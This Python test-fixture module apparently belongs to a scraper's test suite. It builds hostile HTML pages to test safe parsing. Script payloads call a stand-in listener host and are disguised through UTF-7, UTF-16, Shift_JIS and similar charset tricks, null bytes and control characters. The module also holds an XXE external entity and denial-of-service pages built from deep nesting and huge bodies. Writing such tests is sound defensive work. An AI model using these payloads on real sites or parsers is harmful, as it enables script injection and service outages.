"""Pages that try to run something, to ask for something or to break out, all written for these tests."""

from collections.abc import Callable
from pathlib import Path

from scrapers.signals.records import FetchedPage

FOLDER = Path(__file__).parent / "attacks"
LISTENER = "listener.example"
SCRIPT = '<p>Honest words</p><script>fetch("http://LISTENER/ran")</script><img src="http://LISTENER/a.png" onerror="fetch(\'http://LISTENER/ran\')">'


BUILT: dict[str, tuple[str, bytes]] = {
    "utf_7": ("text/html; charset=utf-7", b"<p>Honest words</p>+ADw-script+AD4-fetch('http://LISTENER/ran')+ADw-/script+AD4-"),
    "utf_7_stated_inside": ("text/html", b'<meta charset="utf-7"><p>Honest words</p>+ADw-img src=http://LISTENER/a.png+AD4-'),
    "utf_16": ("text/html", ("\ufeff" + SCRIPT).encode("utf-16-le")),
    "utf_16_against_its_header": ("text/html; charset=utf-8", ("\ufeff" + SCRIPT).encode("utf-16-be")),
    "utf_32": ("text/html; charset=utf-32", SCRIPT.encode("utf-32")),
    "iso_2022_jp": ("text/html; charset=iso-2022-jp", b'<p>Honest words</p><p title="\x1b$B"><img src=http://LISTENER/a.png>\x1b(B">x'),
    "shift_jis_swallows_a_quote": ("text/html; charset=shift_jis", b'<p>Honest words</p><p title="\x81"><img src=http://LISTENER/a.png>">'),
    "broken_utf_8": (
        "text/html; charset=utf-8",
        b'<p>Honest words</p><p title="\xc0"onclick="fetch(1)"><img\xc0src=http://LISTENER/a.png>',
    ),
    "null_bytes": ("text/html", SCRIPT.replace("script", "scr\0ipt").replace("src", "s\0rc").encode() + SCRIPT.encode()),
    "control_characters": ("text/html", b'<p>Honest words</p><a href="\x01java\x0bscript:x" \x0conclick=x>x<\x0bscript>y</script>'),
    "xml": (
        "application/xhtml+xml",
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "http://LISTENER/x">]><?xml-stylesheet href="http://LISTENER/y"?>'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Honest words&x;</p><script><![CDATA[fetch("http://LISTENER/ran")]]></script></body></html>',
    ),
}

LARGE: dict[str, Callable[[], bytes]] = {
    "deep_nesting": lambda: b"<div>" * 100_000 + SCRIPT.encode(),
    "deep_nesting_of_words": lambda: b"<span>" * 100_000 + b"</q>" * 20_000 + SCRIPT.encode(),
    "deep_nesting_behind_strangers_ends": lambda: b"<span></q>" * 100_000 + SCRIPT.encode(),
    "comments_deep_inside": lambda: b"<span>" * 1_900 + b"x<!---->" * 70_000 + SCRIPT.encode(),
    "instructions_deep_inside": lambda: b"<span>" * 1_900 + b"x<?y>" * 100_000 + SCRIPT.encode(),
    "deep_tables": lambda: b"<table><tr><td>" * 50_000 + SCRIPT.encode(),
    "deep_frames": lambda: b"<svg><foreignObject><math><mtext>" * 25_000 + SCRIPT.encode(),
    "formats_that_open_again": lambda: b"<p>" + b"".join(b"<font size=%d>" % n for n in range(1000)) + b"<p>x" * 100_000,
    "fifty_megabytes": lambda: SCRIPT.encode() + b"<p>Words and words</p>\n" * (50_000_000 // 22) + SCRIPT.encode(),
    "fifty_megabytes_of_tags": lambda: SCRIPT.encode() + b"<b><i>" * (50_000_000 // 6),
    "one_long_attribute": lambda: SCRIPT.encode() + b'<p title="' + b"x" * 5_000_000 + b'">y</p>',
    "many_attributes": lambda: SCRIPT.encode() + b"<p " + b" ".join(b"a%d=b" % n for n in range(200_000)) + b">y</p>",
    "many_tags_of_many_attributes": lambda: SCRIPT.encode() + (b"<p " + b" ".join(b"a%d=b" % n for n in range(990)) + b">y</p>") * 400,
    "many_elements": lambda: SCRIPT.encode() + b"<br>" * 700_000,
    "many_pictures": lambda: SCRIPT.encode() + b'<img src="http://LISTENER/a.png" alt=x>' * 70_000,
    "many_rules": lambda: b"<style>" + b"p{background:url(http://LISTENER/a);color:red}" * 60_000 + b"</style>" + SCRIPT.encode(),
    "styles_without_an_end": lambda: b"<style>" + b"a{b:(" * 500_000 + b"</style>" + SCRIPT.encode(),
    "styles_with_comments": lambda: b"<style>" + b"/*" * 1_000_000 + b"</style>" + SCRIPT.encode(),
    "many_style_attributes": lambda: SCRIPT.encode() + b"<p style=\"((((((''''\\\\\\\\url(url(\">x" * 60_000,
}


def list_attacks() -> list[str]:
    """The names of the small pages."""
    return sorted([*(path.stem for path in FOLDER.glob("*.html")), *BUILT])


def make_attack(name: str, listener: str = LISTENER) -> FetchedPage:
    """The page of this name, which calls a listener at this host (and port)."""
    kind, body = BUILT.get(name) or ("text/html; charset=utf-8", _read(name))
    for encoding in ("ascii", "utf-16-le", "utf-16-be", "utf-32-le"):
        body = body.replace("LISTENER".encode(encoding), listener.encode(encoding))
    return make_page(body, kind)


def make_page(body: bytes, kind: str = "text/html; charset=utf-8", url: str = "http://shop.example/page/") -> FetchedPage:
    """A page as it comes out of an archive."""
    return FetchedPage(url, 200, {"content-type": kind}, body, "2026-11-22T10:00:00Z")


def _read(name: str) -> bytes:
    return LARGE[name]() if name in LARGE else (FOLDER / f"{name}.html").read_bytes()
